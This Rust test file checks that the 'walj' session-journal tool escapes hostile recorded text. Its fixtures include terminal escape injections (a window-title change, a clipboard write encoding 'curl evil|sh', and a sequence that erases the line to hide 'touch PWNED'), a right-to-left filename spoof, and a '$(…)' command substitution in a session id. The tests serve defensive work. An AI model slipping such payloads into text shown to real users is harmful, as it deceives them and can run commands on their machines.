//! Recorded text reaches no terminal raw: a journal written through the real `walj hook`
//! (and a bundle, and another machine's synced journal) carries raw ESC, OSC 0/2 (window
//! title), OSC 52 (clipboard write), `\r` + `ESC[2K` (erase the line) and a bidi override in
//! its paths, commands, prompts, todos, session ids and machine name. Every command's text
//! output shows them escaped (`\x1b]2;OWNED`), `--json` keeps them exact, the SessionStart
//! note escapes them, `walj procs restart` shows the hidden part on a rendered terminal (tmux)
//! and refuses it without `--force`, the bash completion quotes a session id like `$(…)`, and
//! no brief suggests writing a transcript to a path a record holds.

#![allow(clippy::unwrap_used, clippy::panic)] // test code: a failed step is a failed test

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use crate::common::{Claude, Parent, Repo, hook_ok, outcome, walj_at, walj_bin};
use serde_json::{Value, json};

/// OSC 2: sets the terminal's window title.
const TITLE: &str = "\x1b]2;OWNED\x07";
/// OSC 52: writes the clipboard (here: `curl evil|sh`).
const CLIP: &str = "\x1b]52;c;Y3VybCBldmlsfHNo\x07";
/// Back to the line start, erase the line: what comes after replaces what came before.
const HIDE: &str = "\r\x1b[2K";
/// Right-to-left override: `gpj.txt` shows as `txt.jpg`.
const RLO: &str = "\u{202e}";

/// What the escaped forms look like on screen.
const TITLE_SHOWN: &str = "\\x1b]2;OWNED\\x07";
const CLIP_SHOWN: &str = "\\x1b]52;c;";
const HIDE_SHOWN: &str = "\\r\\x1b[2K";
/// In a brief's one-line fields the `\r` is whitespace, flattened to a space.
const ERASE_SHOWN: &str = "\\x1b[2K";
const RLO_SHOWN: &str = "\\u{202e}";

fn session_id() -> String {
    format!("8f14e45f{TITLE}-ceea-467f")
}

fn file_rel() -> String {
    format!("notes{TITLE}{RLO}gpj.txt")
}

fn prompt() -> String {
    format!("fix the build{TITLE} then{CLIP}{HIDE}all done, nothing to see")
}

/// A background command whose tail, on a terminal, erases its real start.
fn command() -> String {
    format!("touch PWNED #{HIDE}  command  npm run dev")
}

fn send(repo: &Repo, v: &Value) -> String {
    hook_ok(&repo.root, &v.to_string(), Parent::Timeout(10))
}

fn base(repo: &Repo, session: &str, event: &str) -> Value {
    json!({
        "session_id": session,
        "transcript_path": format!("/home/test/.claude/projects/x/{session}.jsonl"),
        "cwd": repo.root,
        "permission_mode": "default",
        "hook_event_name": event,
    })
}

fn tool(repo: &Repo, session: &str, event: &str, name: &str, id: &str, input: Value) -> Value {
    let mut v = base(repo, session, event);
    v["tool_name"] = json!(name);
    v["tool_use_id"] = json!(id);
    v["tool_input"] = input;
    v
}

/// A session that crashed (its hook parent is gone) with every kind of recorded text made
/// hostile, written through `walj hook` with Claude Code's payload shapes.
fn hostile_repo() -> Repo {
    let repo = Repo::new(&[("README", "shop\n")]).with_home();
    repo.write(&file_rel(), "one\n");
    let sid = session_id();
    let claude = Claude::new(&repo, &sid);
    claude.start();
    claude.prompt(&prompt());
    let todos = json!({"todos": [{"content": format!("ship it{TITLE}{HIDE}"), "status": "in_progress", "activeForm": "Shipping"}]});
    send(&repo, &tool(&repo, &sid, "PreToolUse", "TodoWrite", "toolu_01TodoEvil", todos.clone()));
    let mut post = tool(&repo, &sid, "PostToolUse", "TodoWrite", "toolu_01TodoEvil", todos.clone());
    post["tool_response"] = json!({"oldTodos": [], "newTodos": todos["todos"]});
    send(&repo, &post);
    claude.edit("toolu_01EditEvil", &file_rel(), "one", "two");
    let bg = json!({"command": command(), "description": "Start the dev server", "run_in_background": true});
    send(&repo, &tool(&repo, &sid, "PreToolUse", "Bash", "toolu_01BashDev", bg.clone()));
    let mut post = tool(&repo, &sid, "PostToolUse", "Bash", "toolu_01BashDev", bg);
    post["tool_response"] =
        json!({"stdout": "", "stderr": "", "interrupted": false, "isImage": false, "backgroundTaskId": "bash_1"});
    send(&repo, &post);
    let failing = json!({"command": format!("cargo test{TITLE}"), "description": "Run tests"});
    send(&repo, &tool(&repo, &sid, "PreToolUse", "Bash", "toolu_01BashFail", failing.clone()));
    let mut post = tool(&repo, &sid, "PostToolUseFailure", "Bash", "toolu_01BashFail", failing);
    post["error"] = json!(format!("Exit code 101\nerror{CLIP}: {HIDE}all tests passed"));
    post["is_interrupt"] = json!(false);
    send(&repo, &post);
    repo
}

/// No byte a terminal acts on: ESC, BEL, CR, C1 controls, bidi overrides.
fn assert_inert(what: &str, text: &str) {
    for (c, name) in [('\x1b', "ESC"), ('\x07', "BEL"), ('\r', "CR"), ('\u{9b}', "CSI"), ('\u{202e}', "RLO")] {
        assert!(!text.contains(c), "{what}: a raw {name} reached the terminal:\n{}", text.escape_debug());
    }
}

/// `text` with walj's own colour codes (`ESC[…m`) taken out, as `--color always` prints them.
fn without_sgr(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(i) = rest.find("\x1b[") {
        out.push_str(&rest[..i]);
        let tail = &rest[i + 2..];
        let end = tail.find(|c: char| !(c.is_ascii_digit() || c == ';'));
        match end {
            Some(e) if tail[e..].starts_with('m') => rest = &tail[e + 1..],
            _ => {
                out.push_str("\x1b[");
                rest = tail;
            }
        }
    }
    out.push_str(rest);
    out
}

fn run(repo: &Repo, args: &[&str]) -> (i32, String, String) {
    outcome(&repo.walj(args).env("HOME", &repo.home).env_remove("CLAUDE_CONFIG_DIR").output().unwrap())
}

#[test]
fn every_command_shows_recorded_text_escaped() {
    let repo = hostile_repo();
    // (command, what its text must show escaped)
    let cases: &[(&[&str], &[&str])] = &[
        (&["recover"], &[TITLE_SHOWN, CLIP_SHOWN, HIDE_SHOWN, RLO_SHOWN]),
        (&["log", "--all"], &[TITLE_SHOWN, RLO_SHOWN]),
        (&["sessions", "list"], &[]),
        (&["sessions", "show", "8f14"], &[TITLE_SHOWN, CLIP_SHOWN, HIDE_SHOWN, RLO_SHOWN]),
        (&["sessions", "resume", "8f14", "--print-only"], &[TITLE_SHOWN, CLIP_SHOWN, ERASE_SHOWN, RLO_SHOWN]),
        (&["diff", "01EditEvil"], &[TITLE_SHOWN, RLO_SHOWN]),
        (&["procs"], &[HIDE_SHOWN]),
        (&["status"], &[]),
        (&["mark", "01EditEvil", "--dry-run"], &[]),
        (&["revert", "01EditEvil", "--dry-run"], &[TITLE_SHOWN]),
        (&["handoff", "--print", "01EditEvil"], &[TITLE_SHOWN]),
    ];
    for (args, shown) in cases {
        let (_, out, err) = run(&repo, args);
        let all = format!("{out}{err}");
        assert_inert(&format!("walj {}", args.join(" ")), &all);
        for s in *shown {
            assert!(all.contains(s), "walj {}: {s} not shown:\n{all}", args.join(" "));
        }
        // In colour too: walj's own colour codes are the only escapes.
        let mut colored: Vec<&str> = vec!["--color", "always"];
        colored.extend_from_slice(args);
        let (_, out, err) = run(&repo, &colored);
        assert_inert(&format!("walj --color always {}", args.join(" ")), &without_sgr(&format!("{out}{err}")));
    }
    // An error that quotes a recorded id: escaped too.
    let (code, _, err) = run(&repo, &["sessions", "show", "nope"]);
    assert_ne!(code, 0);
    assert_inert("an error", &err);
}

#[test]
fn json_output_keeps_recorded_text_exact() {
    let repo = hostile_repo();
    let (code, out, err) = run(&repo, &["recover", "--json"]);
    assert_eq!(code, 0, "{err}");
    let v: Value = serde_json::from_str(&out).unwrap();
    let s = &v["sessions"][0];
    assert_eq!(s["session"], session_id());
    assert_eq!(s["last_prompt"], prompt());
    assert!(s["entries"].as_array().unwrap().iter().any(|e| e["path"] == file_rel()), "{v:#}");
    let (_, out, _) = run(&repo, &["procs", "--json"]);
    let procs: Value = serde_json::from_str(&out).unwrap();
    assert!(procs.as_array().unwrap().iter().any(|p| p["command"] == command()), "{procs:#}");
    let (_, out, _) = run(&repo, &["sessions", "show", "8f14", "--json"]);
    let show: Value = serde_json::from_str(&out).unwrap();
    assert!(show.to_string().contains(&serde_json::to_string(&format!("ship it{TITLE}{HIDE}")).unwrap()), "{show:#}");
}

#[test]
fn the_session_start_note_escapes_recorded_text() {
    let repo = hostile_repo();
    // The next session starts: the crashed one is announced to the user and to Claude.
    let out = send(
        &repo,
        &json!({
            "session_id": "0a1b2c3d-next", "transcript_path": "/home/test/.claude/projects/x/next.jsonl",
            "cwd": repo.root, "hook_event_name": "SessionStart", "source": "startup"
        }),
    );
    let v: Value = serde_json::from_str(&out).unwrap();
    let user = v["systemMessage"].as_str().unwrap();
    let context = v["hookSpecificOutput"]["additionalContext"].as_str().unwrap();
    assert_inert("systemMessage", user);
    assert_inert("additionalContext", context);
    assert!(user.contains(TITLE_SHOWN) && user.contains(RLO_SHOWN), "{user}");
    assert!(context.contains(TITLE_SHOWN) && context.contains(HIDE_SHOWN), "{context}");
    // One line per change: a recorded line break makes no line of its own.
    assert!(context.lines().all(|l| !l.starts_with("all done")), "{context}");
}

/// A tmux server of its own, killed when dropped; `None` (with a message) without tmux.
struct Tmux {
    sock: PathBuf,
    name: String,
}

impl Tmux {
    fn start(dir: &Path, tag: &str, cmd: &str) -> Option<Tmux> {
        if !Command::new("tmux").arg("-V").output().is_ok_and(|o| o.status.success()) {
            assert!(std::env::var("WALJ_E2E_REQUIRE").as_deref() != Ok("1"), "tmux is required");
            eprintln!("SKIPPED: tmux is not installed");
            return None;
        }
        let t = Tmux { sock: dir.join(format!(".tmux-{tag}")), name: format!("walj-{tag}-{}", std::process::id()) };
        let out = t.run(&["new-session", "-d", "-s", &t.name, "-x", "200", "-y", "30", cmd]);
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        Some(t)
    }

    fn run(&self, args: &[&str]) -> std::process::Output {
        Command::new("tmux").arg("-S").arg(&self.sock).args(args).output().unwrap()
    }

    /// The screen as the terminal renders it.
    fn screen(&self) -> String {
        String::from_utf8_lossy(&self.run(&["capture-pane", "-p", "-t", &self.name]).stdout).into_owned()
    }

    fn wait_text(&self, needle: &str) -> String {
        for _ in 0..150 {
            let s = self.screen();
            if s.contains(needle) {
                return s;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        panic!("{needle:?} never on screen:\n{}", self.screen());
    }
}

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = self.run(&["kill-server"]);
    }
}

/// The shell line that runs walj in `repo` inside tmux, then waits (so the screen stays).
fn in_tmux(repo: &Repo, args: &str) -> String {
    format!(
        "cd '{}' && NO_COLOR=1 HOME='{}' '{}' --project '{}' {args}; echo \"EXIT=$?\"; sleep 60",
        repo.root.display(),
        repo.home.display(),
        walj_bin().display(),
        repo.root.display()
    )
}

#[test]
fn procs_restart_shows_the_hidden_part_on_a_rendered_terminal_and_refuses_it() {
    let repo = hostile_repo();
    let Some(t) = Tmux::start(&repo.tmp, "refuse", &in_tmux(&repo, "procs restart 01BashDev")) else { return };
    let screen = t.wait_text("EXIT=");
    // The whole command is on screen, its hidden start and the escape that would hide it.
    assert!(screen.contains("command  'touch PWNED #\\r\\x1b[2K  command  npm run dev'"), "{screen}");
    assert!(screen.contains("control characters"), "{screen}");
    assert!(screen.contains("EXIT=1"), "{screen}");
    drop(t);
    assert!(!repo.root.join("PWNED").exists(), "the hidden command ran");

    // With --force it asks, the real command on screen; "n" starts nothing.
    let Some(t) = Tmux::start(&repo.tmp, "force", &in_tmux(&repo, "procs restart 01BashDev --force")) else { return };
    let screen = t.wait_text("Start it?");
    assert!(screen.contains("touch PWNED #\\r\\x1b[2K"), "{screen}");
    assert!(screen.contains("WARNING"), "{screen}");
    t.run(&["send-keys", "-t", &t.name, "n", "Enter"]);
    let screen = t.wait_text("EXIT=");
    assert!(screen.contains("Nothing started"), "{screen}");
    drop(t);
    assert!(!repo.root.join("PWNED").exists(), "the hidden command ran");

    // --force --yes: what was shown is what runs.
    let (code, _, err) = run(&repo, &["procs", "restart", "01BashDev", "--force", "--yes"]);
    assert_eq!(code, 0, "{err}");
    assert_inert("procs restart --force", &err);
    for _ in 0..100 {
        if repo.root.join("PWNED").exists() {
            return;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    panic!("the command shown was not the one started");
}

#[test]
fn bash_completion_quotes_a_session_id_that_a_shell_would_run() {
    let repo = hostile_repo();
    // Its shown start (six characters) is a whole command substitution: `:>P` makes a file P.
    let evil = "$(:>P)-sess";
    Claude::new(&repo, evil).start();
    let script = repo.home.join("walj.bash");
    fs::write(&script, repo.ok(&["completions", "bash"])).unwrap();
    let bin_dir = walj_bin().parent().unwrap().to_path_buf();
    let path = format!("{}:{}", bin_dir.display(), std::env::var("PATH").unwrap_or_default());
    let bash = |script_text: &str| {
        outcome(
            &Command::new("bash")
                .args(["--norc", "-c", script_text])
                .current_dir(&repo.root)
                .env("PATH", &path)
                .env("HOME", &repo.home)
                .env("NO_COLOR", "1")
                .env_remove("CLAUDE_PROJECT_DIR")
                .env_remove("WALJ_JOURNAL")
                .output()
                .unwrap(),
        )
    };
    // TAB after `walj sessions show '$('`: what bash would insert.
    let (code, out, err) = bash(&format!(
        "source '{}'; COMP_WORDS=(walj sessions show '$('); COMP_CWORD=3; _walj_ids walj '$(' show; printf '%s\\n' \"${{COMPREPLY[@]}}\"",
        script.display()
    ));
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.lines().collect::<Vec<_>>(), ["'$(:>P)'"], "{out}");
    // The user presses Enter on the completed line: the id is text, nothing runs.
    let (code, out, err) = bash(&format!("walj sessions show {}", out.trim()));
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("$(:>P)-sess"), "{out}");
    assert!(!repo.root.join("P").exists(), "the completed id ran a command");
    // Descriptions (a recorded prompt) are inert; an id holding controls is offered only by its
    // shown start.
    for shell in ["bash", "zsh", "fish"] {
        let out = walj_at(&repo.root)
            .args(["__complete-ids", "--shell", shell, "--cword", "3", "--", "walj", "sessions", "show", ""])
            .current_dir(&repo.root)
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        assert_inert(shell, &text);
        assert!(text.contains("$(:>P)"), "{shell}: {text}");
        // The hostile session by its shown start (plain), never by its whole id.
        assert!(text.lines().any(|l| l.starts_with("8f14e4")), "{shell}: {text}");
    }
}

/// The real transcript of the demo session (Claude Code 2.1.328).
fn real_transcript() -> Vec<u8> {
    fs::read(crate::common::fixtures().join("transcripts/cc-2.1.328-killed-mid-bash.jsonl")).unwrap()
}

const PLAIN_SESSION: &str = "8f14e45f-ceea-467f-a0e6-4c2d1b7e9a10";

#[test]
fn an_imported_sessions_brief_suggests_no_write_to_a_recorded_path() {
    // The exporting side recorded its transcript at a path that, on the importing machine,
    // is the user's shell startup file.
    let a = hostile_repo();
    let bashrc = a.home.join(".bashrc");
    fs::write(&bashrc, real_transcript()).unwrap();
    let mut start = base(&a, PLAIN_SESSION, "SessionStart");
    start["transcript_path"] = json!(bashrc);
    start["source"] = json!("startup");
    send(&a, &start);
    let mut p = base(&a, PLAIN_SESSION, "UserPromptSubmit");
    p["transcript_path"] = json!(bashrc);
    p["prompt"] = json!(prompt());
    send(&a, &p);
    let mut stop = base(&a, PLAIN_SESSION, "Stop");
    stop["transcript_path"] = json!(bashrc);
    stop["stop_hook_active"] = json!(false);
    send(&a, &stop);
    let bundle = a.tmp.join("s.walj");
    let (code, _, err) = run(&a, &["sessions", "export", "8f14e45f-ceea-467f-a0e6", "-o", bundle.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");

    let b = Repo::new(&[("README", "other\n")]).with_home();
    let (code, out, err) = run(&b, &["sessions", "import", "--yes", bundle.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    assert_inert("sessions import", &format!("{out}{err}"));
    // On this machine the recorded path does not exist (it is `a`'s); the brief must not
    // offer to write there.
    fs::remove_file(&bashrc).unwrap();
    let (code, brief, err) = run(&b, &["sessions", "resume", "8f14e45f-ceea-467f-a0e6", "--print-only"]);
    assert_eq!(code, 0, "{err}");
    assert_inert("resume brief", &brief);
    assert!(
        !brief.contains(" -o /") && !brief.contains(".bashrc`"),
        "a write to a recorded path is suggested:\n{brief}"
    );
    assert!(brief.contains("walj sessions transcript 8f14e4"), "{brief}");
    let (_, out, _) = run(&b, &["sessions", "resume", "8f14e45f-ceea-467f-a0e6", "--print-only", "--json"]);
    let v: Value = serde_json::from_str(&out).unwrap();
    assert!(!v["brief"].as_str().unwrap().contains(" -o /"), "{v:#}");

    // `sessions transcript` without -o writes where Claude Code looks for this project.
    let (code, _, err) = run(&b, &["sessions", "transcript", "8f14e45f-ceea-467f-a0e6"]);
    assert_eq!(code, 0, "{err}");
    let encoded: String =
        b.root.to_string_lossy().chars().map(|c| if c.is_ascii_alphanumeric() { c } else { '-' }).collect();
    let place = b.home.join(".claude/projects").join(encoded).join(format!("{PLAIN_SESSION}.jsonl"));
    assert_eq!(fs::read(&place).unwrap(), real_transcript(), "{err}");
    assert!(!bashrc.exists() && !b.home.join(".bashrc").exists(), "written to the recorded path");
    // Again: the same bytes are there, nothing is written.
    let (code, _, err) = run(&b, &["sessions", "transcript", "8f14e45f-ceea-467f-a0e6"]);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("already holds"), "{err}");
}

#[test]
fn a_hostile_bundle_is_imported_or_refused_with_nothing_raw_on_screen() {
    let a = hostile_repo();
    let bundle = a.tmp.join("evil.walj");
    let (code, _, err) = run(&a, &["sessions", "export", "8f14", "-o", bundle.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let b = Repo::new(&[("README", "other\n")]).with_home();
    let (_, out, err) = run(&b, &["sessions", "import", "--yes", bundle.to_str().unwrap()]);
    assert_inert("sessions import", &format!("{out}{err}"));
    for args in [&["recover"][..], &["log", "--all"], &["sessions", "list"]] {
        let (_, out, err) = run(&b, args);
        assert_inert(&format!("imported: walj {}", args.join(" ")), &format!("{out}{err}"));
    }
}

// ---------------------------------------------------------------------------------------------
// Another machine's journal (`walj sync`) with a hostile machine name.

fn git_env(c: &mut Command, home: &Path) {
    c.env("HOME", home)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_TERMINAL_PROMPT", "0")
        .env("LC_ALL", "C")
        .env("NO_COLOR", "1")
        .env_remove("CLAUDECODE")
        .env_remove("CLAUDE_PROJECT_DIR")
        .env_remove("WALJ_JOURNAL")
        .env_remove("WALJ_PASSPHRASE");
}

fn machine_walj(dir: &Path, home: &Path, args: &[&str]) -> (i32, String, String) {
    let mut c = Command::new(walj_bin());
    c.arg("--project").arg(dir).args(args).current_dir(dir);
    git_env(&mut c, home);
    outcome(&c.output().unwrap())
}

#[test]
fn another_machines_name_and_text_are_shown_escaped() {
    let (_tmp, root) = crate::common::scratch();
    crate::common::git(&root, &["init", "-q", "--bare", "remote.git"]);
    crate::common::git(&root, &["init", "-q", "-b", "main", "seed"]);
    fs::write(root.join("seed/README"), "shop\n").unwrap();
    crate::common::git(&root.join("seed"), &["add", "README"]);
    crate::common::git(&root.join("seed"), &["commit", "-qm", "first"]);
    let url = root.join("remote.git").display().to_string();
    crate::common::git(&root.join("seed"), &["push", "-q", &url, "main"]);
    let clone = |name: &str, machine: &str| -> (PathBuf, PathBuf) {
        crate::common::git(&root, &["clone", "-q", &url, name]);
        let dir = fs::canonicalize(root.join(name)).unwrap();
        let home = root.join(format!("home-{name}"));
        fs::create_dir_all(&home).unwrap();
        fs::create_dir_all(dir.join(".walj")).unwrap();
        let toml_name = serde_json::to_string(machine).unwrap(); // a TOML basic string too
        fs::write(dir.join(".walj/config.toml"), format!("[sync]\nname = {toml_name}\n")).unwrap();
        (dir, home)
    };
    let (a, a_home) = clone("laptop", &format!("lap{TITLE}{HIDE}top"));
    let (b, b_home) = clone("desktop", "desktop");
    // The laptop's crashed session, through the real hook. (Its id is plain: sync refuses a
    // journal whose session ids hold control characters, tests/security/untrusted_writes.rs.)
    let sid = "8f14e45f-ceea-467f-a0e6-4c2d1b7e9a10";
    let hook = |v: Value| hook_ok(&a, &v.to_string(), Parent::Timeout(10));
    hook(
        json!({"session_id": sid, "transcript_path": "/nowhere/t.jsonl", "cwd": a, "hook_event_name": "SessionStart", "source": "startup"}),
    );
    hook(
        json!({"session_id": sid, "transcript_path": "/nowhere/t.jsonl", "cwd": a, "hook_event_name": "UserPromptSubmit", "prompt": prompt()}),
    );
    let rel = file_rel();
    fs::write(a.join(&rel), "one\n").unwrap();
    let input = json!({"file_path": a.join(&rel), "content": "two\n"});
    hook(
        json!({"session_id": sid, "transcript_path": "/nowhere/t.jsonl", "cwd": a, "hook_event_name": "PreToolUse", "tool_name": "Write", "tool_use_id": "toolu_01WriteEvil", "tool_input": input}),
    );
    fs::write(a.join(&rel), "two\n").unwrap();
    hook(
        json!({"session_id": sid, "transcript_path": "/nowhere/t.jsonl", "cwd": a, "hook_event_name": "PostToolUse", "tool_name": "Write", "tool_use_id": "toolu_01WriteEvil", "tool_input": input,
        "tool_response": {"type": "update", "filePath": a.join(&rel), "content": "two\n", "originalFile": "one\n"}}),
    );

    let (code, _, err) = machine_walj(&a, &a_home, &["sync", "--yes"]);
    assert_eq!(code, 0, "{err}");
    let (code, out, err) = machine_walj(&b, &b_home, &["sync", "--yes"]);
    assert_eq!(code, 0, "{err}");
    assert_inert("sync", &format!("{out}{err}"));
    assert!(out.contains(&format!("lap{TITLE_SHOWN}{HIDE_SHOWN}top")), "{out}");
    for args in
        [&["sync", "--status"][..], &["recover"], &["log", "--all"], &["sessions", "list"], &["diff", "01WriteEvil"]]
    {
        let (_, out, err) = machine_walj(&b, &b_home, args);
        let all = format!("{out}{err}");
        assert_inert(&format!("desktop: walj {}", args.join(" ")), &all);
        assert!(all.contains(TITLE_SHOWN), "desktop: walj {}: not shown escaped:\n{all}", args.join(" "));
    }
    let (_, out, _) = machine_walj(&b, &b_home, &["recover", "--json"]);
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["machines"][0]["name"], format!("lap{TITLE}{HIDE}top"), "--json keeps the name exact");
}
